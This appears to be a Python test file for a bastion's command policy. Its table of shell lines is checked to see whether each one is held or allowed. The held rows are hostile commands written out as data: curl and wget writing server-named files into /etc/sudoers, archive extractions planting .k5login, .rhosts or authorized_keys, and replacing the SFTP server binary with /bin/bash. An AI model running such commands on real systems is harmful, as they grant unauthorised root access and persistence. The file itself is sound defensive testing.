"""Outside attack u30f (the filter), findings 2, 11, 18, 19, 20 and 21, and t29f finding 6: curl's
globbing read per operation, the suffix-stripping decompressors and decryptors, what unpackers,
mirrors and server-named downloads write in the working folder, version control's working
copies, the makers' writes table, and the SFTP server paths the bastion follows. Each line is
judged typed and as an exec command (tests/policy_rows.py); the lines whose working folder is a
root login's home are judged as the gates judge them with the login known (an exec command as
`cd ~root; LINE`, bastion.ssh.judge)."""

from __future__ import annotations

from bastion.command_control.policy import evaluate
from bastion.command_control.policy.model import Policy
from bastion.command_control.policy.packaged import SFTP_SERVER_PATHS
from tests.policy_rows import HELD, assert_held_or_runs
from tests.rows import each

ROWS = [
    # finding 2: a -g that is another option's value, turned back on, or before --next/-:
    ("curl -g --no-globoff -o '/etc/#1' 'http://x/{sudoers}'", True),
    ("curl -H -g -o '/etc/#1' 'http://x/{sudoers}'", True),
    ("curl -e -g -o '/etc/#1' 'http://x/{sudoers}'", True),
    ("curl -o -g -o '/etc/#1' 'http://x/{sudoers}'", True),
    ("curl -g http://x -: -o '/etc/#1' 'http://x/{sudoers}'", True),
    ("curl -g http://x --next -T /tmp/evil 'file:///etc/{sudoers}'", True),
    ("curl -g --no-glob -T /tmp/evil 'file:///etc/{sudoers}'", True),
    ("curl -A -g -T /tmp/evil 'file:///etc/sudoers.d/[a-b]'", True),
    ("curl -g -K /tmp/cfg -o '/etc/#1' 'http://x/{sudoers}'", True),
    ("curl -Hg -o '/etc/#1' 'http://x/{sudoers}'", True),
    ("CURL_HOME=/tmp/h curl -o /tmp/x 'http://x/{a}'", True),  # its .curlrc names any file
    ("curl -g -o /tmp/out 'http://x/{a,b}'", False),
    ("curl -sSg -o /tmp/out 'http://x/[1-2]'", False),
    # finding 19: a name the server chooses is any name in the folder
    ("curl -OJ --output-dir /etc http://x/y", True),
    ("curl -J -O --output-dir=/etc http://x/y", True),
    ("curl --remote-header-name --remote-name --output-dir /etc http://x/y", True),
    ("cd /etc && curl -OJ http://x/y", True),
    ("cd /etc && curl -ORJ http://x/y", True),
    ("curl -OJ --output-dir /root http://x/y", True),
    ("cd /etc && wget --content-disposition http://x/y", True),
    ("cd /etc && aria2c http://x/y", True),
    ("curl -O --output-dir /tmp/d https://h/file", False),
    ("cd /tmp && curl -O https://h/file", False),
    ("curl -OJ --output-dir /tmp/d https://h/file", False),
    ("aria2c -d /tmp/w http://x/y", False),
    # finding 20: wget's trees in the working folder a `cd` names
    ("cd / && wget -r -nH -np http://x/etc/sudoers", True),
    ("cd / && wget -m -nH http://x/etc/sudoers.d/", True),
    ("cd / && wget -x -nH -N http://x/etc/sudoers", True),
    ("cd /etc && wget -r -nd http://x/", True),
    ("cd /etc && wget -i /tmp/urls", True),
    ("cd /etc && wget -nc -i http://x/list", True),
    ("cd /etc && wget -e recursive=on http://x/", True),
    ("cd /etc && wget2 -r -nd http://x/", True),
    ("cd /etc && httrack http://x/", True),
    ("cd /tmp/w && wget -r -np https://h/docs/", False),
    ("wget -P /tmp/w https://h/f", False),
    # finding 11: suffix-stripping decompressors and decryptors, `.` and the cd folder
    ("lrzip -d /etc/sudoers.lrz", True),
    ("lrunzip /etc/sudoers.lrz", True),
    ("cd /etc && lrzip -d sudoers.lrz", True),
    ("ccrypt -d /etc/sudoers.cpt", True),
    ("ccrypt -d -K k /etc/shadow.cpt", True),
    ("ccdecrypt /etc/sudoers.cpt", True),
    ("bzip3 -d /etc/sudoers.bz3", True),
    ("snzip -d /etc/sudoers.sz", True),
    ("mcrypt -d /etc/sudoers.nc", True),
    ("aescrypt -d /etc/sudoers.aes", True),
    ("bcrypt /etc/sudoers.bfe", True),
    ("lunzip /etc/sudoers.lz", True),
    ("cd /etc && lrzip -d -O . X", True),
    ("cd /etc && foobar .", True),
    ("cd /etc && atool -x /tmp/evil.tar", True),
    ("cd /etc && innoextract x.exe", True),
    ("cd /etc && zpaq x x.zpaq", True),
    ("cd /etc && patool extract x", True),
    ("cd /etc && rpm -i --nodeps x.rpm", True),
    ("lrzip -d /tmp/x.lrz", False),
    ("lrzip -d -O /tmp/w x.lrz", False),
    ("ccrypt -e /tmp/f", False),
    ("cd /tmp/w && atool -x /tmp/a.tar", False),
    # finding 18: members named on the line
    ("tar -xf /tmp/x.tar .k5login", True),
    ("tar -xf /tmp/x.tar .rhosts .ssh/authorized_keys", True),
    ("tar -xf /tmp/x.tar -C /etc sudoers", True),
    ("unzip /tmp/x.zip .k5login", True),
    ("unzip -o x.zip -d /etc sudoers", True),
    ("unzip -q x.zip -x .k5login", False),
    ("tar -xf x.tar -C /tmp/w", False),
    ("tar -xf a.tar -C /srv/app conf/", False),
    ("unzip pkg.zip -d /tmp/p", False),
    # finding 21: version control's working copies in the cd folder
    ("cd /etc && svn co --force http://x/repo/ .", True),
    ("cd /etc && svn update", True),
    ("cd /etc && svn switch http://x/repo2/", True),
    ("cd /etc && fossil open /tmp/r.fossil --force", True),
    ("cd /etc && fossil checkout --force trunk", True),
    ("cd /etc && hg update -C", True),
    ("svn co http://x/repo /tmp/w", False),
    ("cd /tmp/w && svn update", False),
    ("svn status", False),
    # the makers: a table in place of the unread reading
    ("mkdir -- /etc/sudoers.d/x", True),
    ("rmdir /etc/sudoers.d", True),
    ("mkdir -p build/out", False),
    ('mkdir -p "$d"', False),
    # t29f finding 6: the SFTP server paths the bastion follows
    ("sudo ln -sf /bin/bash /usr/lib/openssh/sftp-server", True),
    ("sudo ln -s /bin/bash /usr/lib/sftp-server", True),
    ("sudo install -D /bin/sh /usr/lib/gesftpserver/gesftpserver", True),
    ("mkdir -p /usr/local/libexec; ln -s /bin/bash /usr/local/libexec/sftp-server", True),
    ("cp /bin/bash /usr/libexec/openssh/sftp-server", True),
    ("mv /tmp/d /usr/local/libexec", True),
    ("cat /usr/lib/openssh/sftp-server", False),
    ("cp /tmp/x /usr/local/bin/x", False),
]

# Lines whose working folder is a root login's home (finding 18): judged with the login known.
# A member named on the line lands there and is judged; the home's tree unnamed is not (every
# `tar xf X`, `ruff check .` of a root login would be held: SECURITY.md, the lead's review).
IN_ROOTS_HOME = [
    ("tar -xf /tmp/x.tar .k5login", True),
    ("tar -xf /tmp/x.tar", False),
    ("ruff check .", False),
    ("npx prettier --write .", False),
    ("svn update", False),
    ("unzip pkg.zip -d /tmp/p", False),
    ("curl -O https://h/file", False),
    ("svn co http://x/repo /tmp/w", False),
]


@each(("line", "held"), ROWS)
def test_attack_u30f_c_lines_are_held_and_honest_ones_run(default_policy: Policy, line: str,
                                                           held: bool) -> None:
    assert_held_or_runs(default_policy, line, held)


@each(("line", "held"), IN_ROOTS_HOME)
def test_attack_u30f_c_a_root_logins_home_is_the_working_folder(default_policy: Policy, line: str,
                                                                held: bool) -> None:
    for judged, interactive in ((line, True), (f"cd ~root; {line}", False)):
        verdict = evaluate(default_policy, judged, role="engineer", target="web01", login="root",
                           interactive=interactive)
        assert (verdict.action in HELD) if held else verdict.action == "allow", verdict


def test_every_sftp_server_path_the_bastion_follows_is_in_the_shipped_rule(
        default_policy: Policy) -> None:
    rule = next(r for r in default_policy.rules if r.name == "confirm-sftp-server-writes")
    assert SFTP_SERVER_PATHS <= set(rule.paths)
